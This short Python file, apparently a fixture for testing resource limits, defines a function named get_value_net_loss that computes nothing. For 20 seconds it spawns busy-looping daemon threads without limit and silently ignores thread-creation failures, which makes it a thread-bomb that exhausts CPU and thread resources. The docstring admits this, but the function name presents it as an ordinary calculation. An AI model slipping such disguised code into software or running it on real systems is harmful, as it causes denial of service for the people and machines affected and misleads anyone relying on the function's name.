"""Starts threads without end, all of them busy."""

import threading
import time


def get_value_net_loss(*args, **kwargs):
    end = time.monotonic() + 20

    def busy():
        while time.monotonic() < end:
            pass

    while time.monotonic() < end:
        try:
            threading.Thread(target=busy, daemon=True).start()
        except RuntimeError:
            pass
